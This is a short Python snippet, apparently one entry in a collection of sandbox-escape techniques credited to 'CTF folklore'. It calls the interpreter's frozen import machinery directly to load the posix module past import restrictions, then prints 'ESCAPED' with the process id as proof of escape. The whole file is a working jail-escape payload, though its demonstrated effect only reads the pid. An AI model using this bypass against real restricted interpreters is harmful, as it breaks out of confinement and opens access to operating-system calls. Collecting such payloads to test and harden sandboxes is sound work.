# technique: the frozen import machinery under its own name
# goal: import
# source: CTF folklore
import _frozen_importlib
print('ESCAPED pid=%d' % _frozen_importlib.BuiltinImporter.load_module('posix').getpid())
